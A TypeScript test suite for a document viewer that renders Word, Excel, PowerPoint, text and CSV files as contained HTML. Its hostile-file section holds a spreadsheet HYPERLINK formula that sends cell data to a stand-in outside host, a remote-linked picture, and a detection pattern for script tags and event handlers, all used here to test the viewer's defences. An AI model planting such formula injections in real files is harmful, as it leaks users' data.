/** Reading: what a file becomes in the viewer, and that whatever it is, it is contained. */
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvRows } from '../../../src-renderer/features/viewer/reading/csv-rows.ts';
import {
  maxShownChars,
  readFile,
} from '../../../src-renderer/features/viewer/reading/read-file.ts';
import type {
  FileReading,
  ViewedKind,
} from '../../../src-renderer/features/viewer/reading/shown-file.ts';
import { viewedKind } from '../../../src-renderer/features/viewer/reading/shown-file.ts';
import { numberWords } from '../../../src-shared/office/cell-format.ts';
import { maxShownRows } from '../../../src-shared/office/sheet-book.ts';
import { wordTexts } from '../../../src-shared/office/word-texts.ts';
import {
  bookFile,
  dotPng,
  linkedPicture,
  paragraph,
  sheetPackage,
  slidesFile,
  wordFile,
  wordPackage,
} from '../../support/office-samples.ts';
import { hostileFiles } from '../../support/hostile-files.ts';

const words = {
  ...{ slide: '第 {n} 张', notes: '备注', margins: '页眉和页脚', comments: '批注' },
  beside: '批注和文本框',
  ...{ formula: '公式', chart: '此处有图表' },
};
const read = (kind: ViewedKind, bytes: Uint8Array, mime = ''): Promise<FileReading> =>
  readFile({ kind, bytes, mime, words });

function htmlOf(reading: FileReading): string {
  if (reading.state === 'refused') throw new Error(`refused: ${reading.reason}`);
  return reading.parts.map(({ html }) => html).join('');
}
const notesOf = (reading: FileReading): readonly string[] =>
  reading.state === 'refused' ? [] : reading.notes.map(({ code, n }) => `${code} ${n}`);

/** Nothing that runs, nothing that leads out. */
function expectHarmless(html: string): void {
  expect(html).not.toMatch(/<(?:script|iframe|object|embed|link|meta|form|a)\b/iu);
  expect(html).not.toMatch(/<[^>]+\s(?:on\w+|href|style)\s*=/iu);
  for (const [, address = ''] of html.matchAll(/\ssrc="([^"]*)"/gu)) {
    expect(address).toMatch(/^data:image\/(?:png|jpeg|gif|webp|bmp);base64,/u);
  }
}

describe('an honest file', () => {
  it('of Word keeps its paragraphs, tables and pictures', async () => {
    const html = htmlOf(await read('word', await wordFile(['防汛抗旱<责任>分工', '一、总则'])));
    expect(html).toContain('防汛抗旱&lt;责任&gt;分工');
    expect(html).toMatch(/<table>.*责任人.*<\/table>/su);
    expect(html).toMatch(/<img src="data:image\/png;base64,/u);
    expectHarmless(html);
  });

  it('of Excel shows sheets, dates, per cents, formulas and merged cells as the sheet does', async () => {
    const day = new Date(Date.UTC(2026, 4, 12));
    const bytes = await bookFile(
      {
        物资: [
          ['编织袋', 1_200.5, '青石河仓库'],
          ['到期', day, 0.256],
          ['合计', { formula: 'B1*2', result: 2_401 }, ''],
          ['合并的一格'],
        ],
        空表: [],
        隐藏: [['看不见']],
      },
      (book) => {
        const [first, , third] = book.worksheets;
        if (first === undefined || third === undefined) throw new Error('no sheets');
        first.getCell('B1').numFmt = '#,##0.00';
        first.getCell('B2').numFmt = 'yyyy"年"m"月"d"日"';
        first.getCell('C2').numFmt = '0.0%';
        first.mergeCells('A4:C4');
        third.state = 'hidden';
      },
    );
    const reading = await read('sheet', bytes);
    const html = htmlOf(reading);
    for (const text of ['1,200.50', '2026年5月12日', '25.6%', '2401', '青石河仓库']) {
      expect(html).toContain(`>${text}<`);
    }
    expect(html).toContain('<td colspan="3">合并的一格</td>');
    expect(html).not.toContain('看不见');
    expect(reading).toMatchObject({ parts: [{ name: '物资' }, { name: '空表' }] });
    expect(notesOf(reading)).toEqual(['sheetsHidden 1']);
  });

  it('of Word shows fields, names under their reading, heads of pages and comments', async () => {
    const run = (text: string): string => `<w:r><w:t>${text}</w:t></w:r>`;
    const body = `<w:p><w:fldSimple w:instr="DOCPROPERTY no">${run('2026-15')}</w:fldSimple><w:r><w:ruby><w:rt>${run('zhái')}</w:rt><w:rubyBase>${run('翟')}</w:rubyBase></w:ruby></w:r>${run('师傅')}</w:p>`;
    const more = {
      'word/header1.xml': strToU8(
        `<w:hdr>${paragraph('防汛<简报>'.replaceAll('<', '&lt;'))}</w:hdr>`,
      ),
      'word/comments.xml': strToU8(`<w:comments>${paragraph('请核对')}</w:comments>`),
    };
    const html = htmlOf(await read('word', wordPackage(body, { more })));
    expect(html.replaceAll(/<\/?(?:p|span)[^>]*>/gu, '')).toContain('2026-15翟师傅');
    expect(html).toContain('<aside><h3>页眉和页脚</h3><p>防汛&lt;简报&gt;</p></aside>');
    expect(html).toContain('<aside><h3>批注</h3><p>请核对</p></aside>');
    expectHarmless(html);
  });

  it('of Word shows formulas as a line of text, and a word where a chart stands', async () => {
    const t = (text: string): string => `<m:r><m:t>${text}</m:t></m:r>`;
    const omml = `<m:oMath><m:f><m:fPr/><m:num>${t('a+b')}</m:num><m:den>${t('c')}</m:den></m:f>${t('&lt;')}<m:rad><m:deg/><m:e>${t('x')}</m:e></m:rad><m:sSup><m:e>${t('y')}</m:e><m:sup>${t('2')}</m:sup></m:sSup><m:nary><m:naryPr><m:chr m:val="∑"/></m:naryPr><m:sub>${t('i=1')}</m:sub><m:sup>${t('n')}</m:sup><m:e>${t('i')}</m:e></m:nary></m:oMath>`;
    const chart = `<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><c:chart r:id="rId9"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
    const body = `<w:p><m:oMathPara>${omml}</m:oMathPara></w:p><w:p><w:r><w:t>其中</w:t></w:r><m:oMath>${t('c')}</m:oMath></w:p>${chart}${paragraph('完')}`;
    const reading = await read('word', wordPackage(body));
    const html = htmlOf(reading);
    const line = '(a+b)/c&lt;√xy^2∑_(i=1)^ni';
    expect(html).toContain(`［公式：${line}］`);
    expect(html).toContain('其中［公式：c］');
    expect(html).toContain('［此处有图表］');
    expect(html).toContain('完');
    expect(notesOf(reading)).toEqual(['formulasAsText 2', 'chartsNotShown 1']);
    expectHarmless(html);
    expect(wordTexts(wordPackage(body)).body).toContain('其中c');
  });

  it('of Excel and PowerPoint says what is drawn in them and not shown', async () => {
    const book = unzipSync(await bookFile({ 物资: [['编织袋']] }));
    const drawn = { 'xl/charts/chart1.xml': strToU8('<c/>'), 'xl/media/image1.png': dotPng };
    const reading = await read('sheet', zipSync({ ...book, ...drawn }));
    expect(notesOf(reading)).toEqual(['picturesLeftOut 1', 'chartsNotShown 1']);
    const slides = unzipSync(slidesFile([{ lines: ['汛前检查'] }]));
    const shown = await read('slides', zipSync({ ...slides, 'ppt/media/image1.png': dotPng }));
    expect(notesOf(shown)).toEqual(['slidesAsWords 1']);
  });

  it('of Excel shows its comments as a sheet of their own', async () => {
    const bytes = await bookFile({ 物资: [['编织袋']] }, (book) => {
      const [sheet] = book.worksheets;
      if (sheet !== undefined) sheet.getCell('A1').note = '请核对<库存>';
    });
    const reading = await read('sheet', bytes);
    expect(reading).toMatchObject({ parts: [{ name: '物资' }, { name: '批注和文本框' }] });
    expect(htmlOf(reading)).toContain('<p>请核对&lt;库存&gt;</p>');
  });

  it('of PowerPoint shows its slides in their order, with notes', async () => {
    const bytes = slidesFile([
      { lines: ['汛前检查', '一、水库'], notes: '讲三分钟' },
      { lines: ['二、堤防'] },
    ]);
    const html = htmlOf(await read('slides', bytes));
    expect(html).toMatch(/第 1 张.*汛前检查.*备注.*讲三分钟.*第 2 张.*二、堤防/su);
    expect(html).not.toContain('7');
  });

  it('of PowerPoint shows its drawings, and what it holds twice once', async () => {
    const parts = unzipSync(slidesFile([{ lines: ['一、水库'] }]));
    const slide = 'ppt/slides/slide1.xml';
    const shape = '<p:sp><p:txBody><a:p><a:r><a:t>公式页</a:t></a:r></a:p></p:txBody></p:sp>';
    const twice = `<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice>${shape}</mc:Choice><mc:Fallback>${shape}</mc:Fallback></mc:AlternateContent></p:spTree>`;
    const bytes = zipSync({
      ...parts,
      [slide]: strToU8(strFromU8(parts[slide] ?? new Uint8Array()).replace('</p:spTree>', twice)),
      'ppt/slides/_rels/slide1.xml.rels': strToU8(
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="d" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/diagramData" Target="../diagrams/data1.xml"/></Relationships>',
      ),
      'ppt/diagrams/data1.xml': strToU8(
        '<dgm:dataModel xmlns:dgm="d" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><dgm:t><a:p><a:r><a:t>会商</a:t></a:r></a:p></dgm:t></dgm:dataModel>',
      ),
    });
    const html = htmlOf(await read('slides', bytes));
    expect(html.match(/公式页/gu)).toHaveLength(1);
    expect(html).toContain('<p>会商</p>');
  });

  it('of text is read in UTF-8, UTF-16 and GB 18030', async () => {
    const gb = Uint8Array.from([0xc7, 0xe0, 0xca, 0xaf, 0xba, 0xd3]);
    expect(htmlOf(await read('text', gb))).toBe('<pre>青石河</pre>');
    expect(htmlOf(await read('text', strToU8('\uFEFF青石河<b>')))).toBe(
      '<pre>青石河&lt;b&gt;</pre>',
    );
    const wide = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('青石河', 'utf16le')]);
    expect(htmlOf(await read('text', wide))).toBe('<pre>青石河</pre>');
    const torn = strToU8('青石河水库'.repeat(20)).subarray(0, -1);
    expect(htmlOf(await read('text', torn))).toContain('<pre>青石河水库');
    // Four bytes: a character outside the basic plane.
    const rare = Uint8Array.from([0xc7, 0xe0, 0x98, 0x39, 0xb4, 0x39]);
    expect(htmlOf(await read('text', rare))).toMatch(/^<pre>青[\u{20000}-\u{3ffff}]<\/pre>$/u);
    const long = strToU8('字'.repeat(maxShownChars + 1));
    expect(notesOf(await read('text', long))).toEqual([`textCut ${maxShownChars}`]);
  });

  it('of a table keeps quoted separators, quotes and lines', async () => {
    const html = htmlOf(await read('table', strToU8('名称;数量\n"甲;乙";"3 ""块"""\n"两\n行";4')));
    expect(html).toContain('<td>甲;乙</td><td>3 &quot;块&quot;</td>');
    expect(html).toContain('<td>两\n行</td><td>4</td>');
  });

  it('that is a picture stands there as it is', async () => {
    expect(htmlOf(await read('picture', dotPng, 'image/png'))).toMatch(
      /^<img class="whole" src="data:/u,
    );
  });

  it('is known by its extension', () => {
    expect(viewedKind('通知.DOCX')).toBe('word');
    expect(viewedKind('a.b.csv')).toBe('table');
    for (const name of ['旧.doc', '无', 'constructor', 'x.svg'])
      expect(viewedKind(name)).toBe('none');
  });
});

it('a number of a sheet is shown as the sheet shows it', () => {
  const as = (value: number, code: string, is1904 = false): string =>
    numberWords(value, 200, { codes: new Map([[200, code]]), is1904 });
  expect(as(1.5, '[h]:mm')).toBe('36:00');
  expect(numberWords(1.5, 46, { codes: new Map(), is1904: false })).toBe('36:00:00');
  expect(as(46_154, 'yyyy"年"m"月"d"日" aaaa')).toBe('2026年5月12日 星期二');
  expect(as(46_154, 'yyyy/m/d dddd')).toBe('2026/5/12 星期二');
  expect(as(1, 'yyyy-mm-dd')).toBe('1900-01-01');
  expect(as(61, 'yyyy-mm-dd')).toBe('1900-03-01');
  expect(as(0, 'yyyy-mm-dd', true)).toBe('1904-01-01');
  expect(as(0.0416666666, 'h:mm')).toBe('1:00');
  expect(as(0.75, 'h:mm AM/PM')).toBe('6:00 下午');
  expect(as(0.5, 'mm:ss.0')).toBe('00:00');
  expect(as(12.5, '0.00"万元"')).toBe('12.50万元');
  expect(as(-1200, '[$¥-804]#,##0.00')).toBe('-¥1,200.00');
  expect(as(-1200, '_ * #,##0.00_ ;_ * -#,##0.00_ ')).toBe('-1,200.00');
  expect(as(0.256, '0.0%')).toBe('25.6%');
  expect(as(-0.051, '+0.0%;-0.0%')).toBe('-5.1%');
  expect(as(0.051, '+0.0%;-0.0%')).toBe('+5.1%');
  expect(as(-1200, '#,##0_);(#,##0)')).toBe('(1,200)');
  expect(as(-3, '0;[Red]0')).toBe('-3');
  // A scale is not computed, and then the words that belong to it would be wrong.
  expect(as(1_200_000, '#,##0,"千元"')).toBe('1200000');
});

it('a table keeps what stands behind a quote, and says that it is too wide', () => {
  expect(csvRows('"甲"乙,丙\n"丁" ,戊', 10).rows).toEqual([
    ['甲乙', '丙'],
    ['丁 ', '戊'],
  ]);
  expect(csvRows(Array.from({ length: 300 }, () => '1').join(','), 10).isCut).toBe(true);
});

it('any rows come back from the table that they are written as', () => {
  const cell = fc.string({ unit: fc.constantFrom('字', '"', ',', '\n', ' ', 'a') });
  const table = fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), {
    minLength: 1,
    maxLength: 6,
  });
  fc.assert(
    fc.property(table, (rows) => {
      const text = rows
        .map((row) => row.map((one) => `"${one.replaceAll('"', '""')}"`).join(','))
        .join('\n');
      const held = rows.filter((row) => row.some((one) => one !== ''));
      expect(csvRows(text, 100).rows).toEqual(held);
    }),
  );
});

describe('a hostile file', async () => {
  it.each(await hostileFiles())('is contained: $name', async ({ extension, bytes, viewer }) => {
    const reading = await read(viewedKind(`x.${extension}`), bytes, 'image/png');
    if (viewer === null) expectHarmless(htmlOf(reading));
    else expect(reading).toEqual({ state: 'refused', reason: viewer });
  });

  it('of nothing, or of blanks, says that it is empty', async () => {
    const empty = { state: 'refused', reason: 'empty' };
    expect(await read('word', new Uint8Array())).toEqual(empty);
    expect(await read('text', strToU8(' \n\t '))).toEqual(empty);
  });

  const linked = linkedPicture('http://outside.invalid/x.png');
  it('that links to a picture and a template fetches neither', async () => {
    const reading = await read('word', wordPackage(linked.body, { more: linked.more }));
    expect(htmlOf(reading)).toContain('外部图片');
    expectHarmless(htmlOf(reading));
    expect(htmlOf(reading)).not.toContain('outside.invalid');
    expect(notesOf(reading)).toEqual(['picturesLeftOut 1']);
  });

  it('with a formula shows its text and computes nothing', async () => {
    const inject = `=HYPERLINK("http://outside.invalid/"&amp;A1,"点我")`;
    const bytes = sheetPackage(
      `<row r="1"><c r="A1" t="inlineStr"><is><t>${inject}</t></is></c><c r="B1" t="str"><f>${inject}</f><v>&lt;script&gt;</v></c></row>`,
    );
    const html = htmlOf(await read('sheet', bytes));
    expect(html).toContain('=HYPERLINK(&quot;');
    expect(html).toContain('<td>&lt;script&gt;</td>');
    expectHarmless(html);
  });

  it('of many rows shows the first of them and says so', async () => {
    const rows = Array.from(
      { length: maxShownRows + 5 },
      (_, at) => `<row><c><v>${at}</v></c></row>`,
    );
    const reading = await read('sheet', sheetPackage(rows.join('')));
    expect(notesOf(reading)).toEqual([`rowsCut ${maxShownRows}`]);
    expect(htmlOf(reading)).toContain(`>${maxShownRows - 1}<`);
    expect(htmlOf(reading)).not.toContain(`>${maxShownRows + 1}<`);
  });

  it('of chance never throws and never runs', async () => {
    const kinds: readonly ViewedKind[] = ['word', 'sheet', 'slides', 'text', 'table', 'picture'];
    const bytes = fc.uint8Array({ maxLength: 400 });
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...kinds), bytes, async (kind, any) => {
        const reading = await read(kind, any, 'image/png');
        if (reading.state === 'shown') expectHarmless(htmlOf(reading));
      }),
    );
  });
});
